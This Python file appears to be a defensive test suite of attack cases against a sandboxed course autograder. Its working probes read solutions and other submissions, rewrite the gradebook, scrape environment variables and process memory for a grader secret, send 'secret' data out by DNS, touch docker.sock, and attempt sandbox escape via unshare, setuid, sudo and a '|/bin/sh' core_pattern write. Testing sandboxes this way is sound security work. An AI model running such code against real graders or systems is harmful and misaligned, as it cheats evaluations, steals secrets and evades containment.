"""Theft: the code looks for what is not its own and tries to carry it out. It prints REACHED where it succeeds."""

from attacks import WRONG, Attack, code_cell

SHOW = """
def show(what, content):
    content = content if isinstance(content, bytes) else str(content).encode()
    if b"@HALF@" in content:
        print("REACHED", what, content[:200])
"""
READ = (
    SHOW
    + """
import glob, os
def read(pattern):
    for path in glob.glob(pattern, recursive=True)[:2000]:
        try:
            with open(path, "rb") as file:
                show(path, file.read(10**6))
        except OSError:
            pass
"""
)


def connecting(lines: str) -> str:
    """Code that runs each line, and says so when one of them does not fail."""
    indented = "\n".join(f"    {line}" for line in lines.strip().splitlines())
    return f"""
import socket
socket.setdefaulttimeout(0.5)
def attempt(code):
    try:
        exec(code)
    except (OSError, ImportError, UnicodeError):
        return
    print("REACHED", code)
for line in '''
{indented}
'''.strip().splitlines():
    attempt(line.strip())
"""


def links(notebook):
    """The notebook's own text does no harm: what is a link beside it is told by the files."""
    notebook["cells"].append(code_cell(READ + 'read("**/*")\nread(".*")', "read"))
    return notebook


ATTACKS = [
    Attack("reads the solutions", first=READ + 'read("@COURSE@/solutions/**/*")\nread("@SOLUTIONS@/**/*.py")'),
    Attack("imports the solutions", first=SHOW + """
import importlib, sys
sys.path[:0] = ["@COURSE@/solutions", "@SOLUTIONS@", "@SOLUTIONS@/02-self-attention"]
for name in ("questions", "transformer_lab", "transformer_lab.attention", "course", "canary"):
    try:
        module = importlib.import_module(name)
        print("REACHED", name, module)
    except ImportError:
        pass
"""),
    Attack("reads the gradebook", first=READ + 'read("@COURSE@/*")\nread("@COURSE@/results/**/*")'),
    Attack("writes into the gradebook", first="""
import os, sqlite3
for path in ("@COURSE@/gradebook.db", "/proc/1/root@COURSE@/gradebook.db", "/proc/self/cwd/../../gradebook.db"):
    try:
        with sqlite3.connect(path, timeout=0.1) as gradebook:
            gradebook.execute("UPDATE grade SET manual_score = 3")
            print("REACHED", path)
    except sqlite3.Error:
        pass
"""),
    Attack("reads other submissions", first=READ + """
read("@COURSE@/submitted/**/*")
read("@COURSE@/autograded/**/*")
read("../../*/*/*.ipynb")
read("/tmp/**/*")
read("/scratch/**/*")
read("/dev/shm/*")
"""),
    Attack("reads the grader's home", 
           first=READ + 'read("@HOME@/*")\nread("@HOME@/.*")\nread("/root/*")\nread("/home/**/*")'),
    Attack("reads the environment", first=SHOW + """
import os, subprocess
show("environ", dict(os.environ))
show("env", subprocess.run(["env"], capture_output=True).stdout)
"""),
    Attack("reads what other processes have", first=READ + """
read("/proc/*/environ")
read("/proc/*/cmdline")
read("/proc/*/cwd/*")
read("/proc/*/fd/*")
read("/proc/[0-9]*/root@COURSE@/*")
"""),
    Attack("reads other processes' memory", first=SHOW + """
import glob, os
for maps in glob.glob("/proc/[0-9]*/maps"):
    if maps.split("/")[2] == str(os.getpid()):
        continue
    try:
        with open(maps) as regions, open(maps.replace("maps", "mem"), "rb") as memory:
            print("REACHED", maps)
            for region in regions:
                start, _, end = region.split()[0].partition("-")
                memory.seek(int(start, 16))
                show(maps, memory.read(min(int(end, 16) - int(start, 16), 10**7)))
    except (OSError, ValueError, OverflowError):
        pass
"""),
    Attack("traces other processes", first="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("REACHED", pid)
        libc.ptrace(17, pid, 0, 0)
""", flag="ctypes"),
    Attack("reads its own memory for what the grader left", first="""
import re
with open("/proc/self/maps") as regions, open("/proc/self/mem", "rb") as memory:
    for region in regions:
        fields = region.split()
        start, _, end = fields[0].partition("-")
        if "r" in fields[1] and len(fields) > 5 and fields[5] in ("[stack]", "[heap]"):
            memory.seek(int(start, 16))
            if found := re.search(rb"GRADER[_]SECRET=[ -~]*", memory.read(int(end, 16) - int(start, 16))):
                print("REACHED", found[0])
"""),
    Attack("connects by TCP", first=connecting("""
socket.create_connection(("127.0.0.1", @TCP@)).sendall(b"hello")
socket.create_connection(("localhost", @TCP@)).sendall(b"hello")
socket.create_connection(("@ADDRESS@", @TCP@)).sendall(b"hello")
socket.create_connection(("1.1.1.1", 443))
socket.create_connection(("::1", @TCP@))
""")),
    Attack("sends by UDP", first=connecting("""
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", @UDP@))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("@ADDRESS@", @UDP@))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("255.255.255.255", @UDP@))
""")),
    Attack("asks a name server", first=connecting("""
socket.getaddrinfo("secret.example.org", 80)
socket.gethostbyname("example.org")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("8.8.8.8", 53))
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
""")),
    Attack("connects by Unix sockets", first=connecting("""
socket.socket(socket.AF_UNIX).connect("@UNIX@")
socket.socket(socket.AF_UNIX).connect("\\0@ABSTRACT@")
socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket")
""")),
    Attack("brings links to what it wants", change=links, files={"data/readme.txt": "nothing"}),
    Attack("tells hidden inputs to a later cell", answers=WRONG | {"steer": """
seen = []
def steer(weights, key, factor):
    seen.append((weights.tolist(), key, factor))
    open("seen.txt", "a").write(repr(seen))
    return 0.0
"""}, last="print(seen)"),
    Attack("leaves the sandbox", first="""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    if libc.unshare(flags) == 0:
        print("REACHED unshare", hex(flags))
for call, arguments in {
    "mount": (b"none", b"/scratch", b"tmpfs", 0, None),
    "umount2": (b"/scratch", 2),
    "chroot": (b"/scratch",),
    "setuid": (0,),
    "setns": (3, 0),
    "pivot_root": (b".", b"."),
}.items():
    if getattr(libc, call)(*arguments) == 0:
        print("REACHED", call)
for name in ("sys/kernel/core_pattern", "sysrq-trigger", "1/oom_score_adj", "sys/user/max_user_namespaces"):
    try:
        open("/proc/" + name, "w").write("|/bin/sh")
        print("REACHED", name)
    except OSError:
        pass
for command in (["mknod", "disk", "b", "8", "0"], ["su", "-c", "id"], ["unshare", "-Ur", "id"], ["sudo", "-n", "id"]):
    try:
        if subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=5).returncode == 0:
            print("REACHED", command)
    except (OSError, subprocess.TimeoutExpired):
        pass
""", flag="ctypes"),
]  # fmt: skip
